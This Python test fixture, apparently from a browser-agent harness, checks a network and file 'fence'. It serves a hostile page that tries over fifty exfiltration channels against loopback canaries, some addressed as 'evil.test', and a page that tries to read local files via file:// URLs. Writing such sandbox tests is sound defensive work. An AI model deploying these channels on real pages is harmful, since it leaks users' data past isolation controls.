"""A hostile page that tries every way out of a browser at once, and the canaries on loopback that would notice.

The page is served by the site that the fence allows. The canaries listen on other ports of the same machine, and are addressed
by literal address, by name, and as another port of the allowed host: with the fence off all of that arrives.
"""

import socket
import threading
import time
from collections.abc import Mapping
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

from symbiotic_gym.suites import Site

HOST = "app.localhost"  # *.localhost is a secure context, which service workers and WebTransport ask for

# name -> script; B is the canary's base address, C(name) the address that records the channel, T the target's name
SCRIPTS: Mapping[str, str] = {
    "fetch": "fetch(C(n), {mode: 'no-cors'}).catch(() => 0)",
    "fetch-keepalive": "fetch(C(n), {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', C(n)); x.send()",
    "beacon": "navigator.sendBeacon(C(n), 'x')",
    "event-source": "new EventSource(C(n))",
    "websocket": "new WebSocket(C(n).replace('http', 'ws'))",
    "image": "new Image().src = C(n)",
    "srcset": "put(`<img srcset='${C(n)} 1x'>`)",
    "svg-image": "put(`<svg><image href='${C(n)}' width=9 height=9 /></svg>`)",
    "script": "add('script', {src: C(n)})",
    "module": "import(C(n)).catch(() => 0)",
    "stylesheet": "add('link', {rel: 'stylesheet', href: C(n)})",
    "css-import": "put(`<style>@import '${C(n)}';</style>`)",
    "css-background": "put(`<div style='background:url(${C(n)})'>x</div>`)",
    "font": "new FontFace('f' + T, `url(${C(n)})`).load().catch(() => 0)",
    "preload": "add('link', {rel: 'preload', as: 'image', href: C(n)})",
    "module-preload": "add('link', {rel: 'modulepreload', href: C(n)})",
    "prefetch": "add('link', {rel: 'prefetch', href: C(n)})",
    "speculation": "const s = add('script', {type: 'speculationrules', "
    "textContent: JSON.stringify({prefetch: [{urls: [C(n)], eagerness: 'immediate'}]})})",
    "audio": "new Audio(C(n)).play().catch(() => 0)",
    "video": "put(`<video src='${C(n)}' autoplay muted></video>`)",
    "poster": "put(`<video poster='${C(n)}'></video>`)",
    "object": "put(`<object data='${C(n)}'></object>`)",
    "embed": "put(`<embed src='${C(n)}'>`)",
    "frame": "put(`<iframe src='${C(n)}'></iframe>`)",
    "data-frame": "put(`<iframe src=\"data:text/html,<img src='${C(n)}'>\"></iframe>`)",
    "blob-frame": "const b = new Blob([`<img src='${C(n)}'>`], {type: 'text/html'});"
    "put(`<iframe src='${URL.createObjectURL(b)}'></iframe>`)",
    "srcdoc-frame": "put(`<iframe srcdoc=\"<img src='${C(n)}'>\"></iframe>`)",
    "javascript-frame": "put(`<iframe src=\"javascript:void(new Image().src='${C(n)}')\"></iframe>`)",
    "meta-refresh": "put(`<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=${C(n)}'>\"></iframe>`)",
    "location": "put(`<iframe src='/run?code=${encodeURIComponent(`location = \"${C(n)}\"`)}'></iframe>`)",
    "link": "put(`<iframe name=l${T}></iframe><a target=l${T} href='${C(n)}'>x</a>`).querySelector('a').click()",
    "ping": "put(`<iframe name=p${T}></iframe><a target=p${T} ping='${C(n)}' href='/empty'>x</a>`).querySelector('a').click()",
    "form-get": "put(`<iframe name=g${T}></iframe><form target=g${T} action='${C(n)}'></form>`).querySelector('form').submit()",
    "form-post": "put(`<iframe name=o${T}></iframe><form method=post target=o${T} action='${C(n)}'></form>`)"
    ".querySelector('form').submit()",
    "image-button": "put(`<input type=image src='${C(n)}'>`)",
    "redirect-image": "new Image().src = '/redirect?to=' + encodeURIComponent(C(n))",
    "redirect-fetch": "fetch('/redirect?to=' + encodeURIComponent(C(n)), {mode: 'no-cors'}).catch(() => 0)",
    "redirect-frame": "put(`<iframe src='/redirect?to=${encodeURIComponent(C(n))}'></iframe>`)",
    "popup": "open(C(n))",
    "popup-redirect": "open('/redirect?to=' + encodeURIComponent(C(n)))",
    "popup-location": "open('/run?code=' + encodeURIComponent(`location = '${C(n)}'`))",
    "worker-fetch": "new Worker(script(`fetch('${C(n)}', {mode: 'no-cors'})`))",
    "worker-import": "new Worker(script(`importScripts('${C(n)}')`))",
    "worker-websocket": "new Worker(script(`new WebSocket('${C(n).replace('http', 'ws')}')`))",
    "shared-worker": "new SharedWorker(script(`fetch('${C(n)}', {mode: 'no-cors'})`))",
    "service-worker": "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js?to=' + encodeURIComponent(C(n)), "
    "{scope: '/sw-' + T}).catch(() => 0)",
    "csp-report": "put(`<iframe src='/csp?to=${encodeURIComponent(C(n))}'></iframe>`)",
    "link-header": "put(`<iframe src='/link-header?to=${encodeURIComponent(C(n))}'></iframe>`)",
    "xslt": "put(`<iframe src='/xslt?to=${encodeURIComponent(C(n))}'></iframe>`)",
    "favicon": "open('/favicon?to=' + encodeURIComponent(C(n)))",
}
# those that need no HTTP request to have left: each has listeners of its own; P is the port, A the literal address
SOCKETS: Mapping[str, tuple[str, str]] = {
    "preconnect": ("tcp", "add('link', {rel: 'preconnect', href: `http://${A}:${P}`})"),
    "stun": ("udp", "rtc({urls: `stun:${A}:${P}`})"),
    "turn-udp": ("udp", "rtc({urls: `turn:${A}:${P}?transport=udp`, username: 'u', credential: 'c'})"),
    "turn-tcp": ("tcp", "rtc({urls: `turn:${A}:${P}?transport=tcp`, username: 'u', credential: 'c'})"),
    "web-transport": ("udp", "new WebTransport(`https://${A}:${P}/`).ready.catch(() => 0)"),
}
_HELP = """
const C = (n) => `${B}/c/${n}/${T}`;
const add = (tag, of) => { const e = Object.assign(document.createElement(tag), of); document.body.append(e); return e; };
const put = (html) => { const e = document.createElement('div'); e.innerHTML = html; document.body.append(e); return e; };
const script = (code) => URL.createObjectURL(new Blob([code + '//' + T], {type: 'text/javascript'}));
const rtc = async (server) => { const c = new RTCPeerConnection({iceServers: [server]}); c.createDataChannel('x');
  await c.setLocalDescription(await c.createOffer()); };
"""


# tries to read a file in every way a page has; `read` says what came of it
_FILES = """<div id=read>read nothing</div>
<iframe src="file://PATH"></iframe><object data="file://PATH"></object><embed src="file://PATH"><img src="file://PATH">
<a id=link href="file://PATH" target=_blank>x</a>
<script>
const got = (text) => { if (text && text.includes("sings")) document.querySelector("#read").textContent = text; };
fetch("file://PATH").then((r) => r.text()).then(got).catch(() => 0);
try { const x = new XMLHttpRequest(); x.onload = () => got(x.responseText); x.open("GET", "file://PATH"); x.send(); } catch {}
try { new Worker("file://PATH"); } catch {}
open("file://PATH");
open("view-source:file://PATH");
document.querySelector("#link").click();
const frame = document.createElement("iframe");
frame.srcdoc = '<meta http-equiv=refresh content="0;url=file://PATH">';
document.body.append(frame);
document.body.dataset.tried = "everything";
</script>"""


class Canary:
    """Listens where nothing may arrive; `seen` holds (channel, target) of all that did."""

    def __init__(self) -> None:
        self.seen: set[tuple[str, str]] = set()
        self._open: list[socket.socket] = []
        self.http = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self.seen))
        self.http.daemon_threads = True
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.port = self.http.server_address[1]
        self.ports = {name: self._listen(name, kind) for name, (kind, _) in SOCKETS.items()}

    def _listen(self, name: str, kind: str) -> int:
        listener = socket.socket(type=socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
        listener.bind(("127.0.0.1", 0))
        if kind == "tcp":
            listener.listen(16)
        self._open.append(listener)

        def wait() -> None:
            with suppress(OSError):
                while True:
                    if kind == "tcp":
                        listener.accept()[0].close()
                    else:
                        listener.recv(4096)
                    self.seen.add((name, "literal"))

        threading.Thread(target=wait, daemon=True).start()
        port: int = listener.getsockname()[1]
        return port

    def targets(self) -> dict[str, str]:
        """How the page may write the canary's address."""
        names = {"literal": "127.0.0.1", "name": "evil.test", "localhost": "localhost", "other-port": HOST}
        return {target: f"http://{name}:{self.port}" for target, name in names.items()}

    def close(self) -> None:
        self.http.shutdown()
        self.http.server_close()
        for listener in self._open:
            listener.close()


def _handler(seen: set[tuple[str, str]]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            _, kind, *rest = [*urlsplit(self.path).path.split("/"), ""]
            if kind == "c":
                seen.add((rest[0], rest[1]))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


def script(canary: Canary) -> str:
    """The start page's script: every channel to every target."""
    runs = []

    def add(name: str, code: str, **constants: str) -> None:
        given = ", ".join(f"{key} = {value!r}" for key, value in {"n": name, **constants}.items())
        runs.append(f"(() => {{ const {given}; {_HELP} try {{ {code} }} catch {{}} }})();")

    for target, base in canary.targets().items():
        for name, code in SCRIPTS.items():
            add(name, code, B=base, T=target)
    for name, (_, code) in SOCKETS.items():
        add(name, code, A="127.0.0.1", P=str(canary.ports[name]), B="", T="")
    return "onload = () => setTimeout(() => {\n" + "\n".join(runs) + "\n}, 100)"


class FenceSite:
    """A suite of two tasks: a page that tries everything, and a quiet one. `canary` is set by the test that runs it."""

    name = "fence"
    canary: Canary

    def tasks(self) -> tuple[str, ...]:
        return ("everything", "quiet")

    def open(self) -> Site:
        server = ThreadingHTTPServer(("127.0.0.1", 0), _AppHandler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        _AppHandler.page = f"<!doctype html><body><button>Start</button><script>{script(self.canary)}</script>"
        address = f"127.0.0.1:{server.server_address[1]}"

        def close() -> None:
            server.shutdown()
            server.server_close()

        # under its own port, so that the fence has to keep the host's other ports shut
        return Site(suite=self.name, hosts={f"{HOST}:{server.server_address[1]}": address}, close=close)

    def make_task(self, name: str, seed: int, site: Site, task_kwargs: Mapping[str, Any]) -> Any:
        from browsergym.core.task import OpenEndedTask

        return OpenEndedTask(seed=seed, start_url=f"http://{next(iter(site.hosts))}/{name}", goal="leave")


class _AppHandler(BaseHTTPRequestHandler):
    page = ""

    def do_GET(self) -> None:
        url = urlsplit(self.path)
        query = {key: values[0] for key, values in parse_qs(url.query).items()}
        to = query.get("to", "")
        headers: dict[str, str] = {"Content-Type": "text/html"}
        status, body = 200, ""
        if url.path == "/everything":
            body = self.page
        elif url.path == "/quiet":
            body = "<button>Start</button><input type=file aria-label=Choose>"
            body += "<button onclick=\"document.querySelector('input').click()\">Browse</button>"
        elif url.path == "/redirect":
            status, headers["Location"] = 302, to
        elif url.path == "/run":
            body = f"<script>{query['code']}</script>"
        elif url.path == "/sw.js":
            headers |= {"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"}
            body = f"fetch('{to}', {{mode: 'no-cors'}})"
        elif url.path == "/csp":
            headers["Content-Security-Policy"] = f"img-src 'none'; report-uri {to}"
            body = "<img src=/x.png>"
        elif url.path == "/link-header":
            headers["Link"] = f"<{to}>; rel=preload; as=image"
        elif url.path == "/xslt":
            headers["Content-Type"] = "text/xml"
            body = f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{to}"?><a/>'
        elif url.path == "/files":
            body = _FILES.replace("PATH", query["path"])
        elif url.path == "/favicon":
            body = f"<link rel=icon href='{to}'>"
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body.encode())

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


def settle(canary: Canary, bound_s: float, still_s: float = 1.5) -> None:
    """Wait until the canary has seen nothing new for `still_s`, at most `bound_s`."""
    deadline, since, count = time.monotonic() + bound_s, time.monotonic(), len(canary.seen)
    while time.monotonic() < deadline and time.monotonic() - since < still_s:
        if len(canary.seen) != count:
            since, count = time.monotonic(), len(canary.seen)
        time.sleep(0.1)
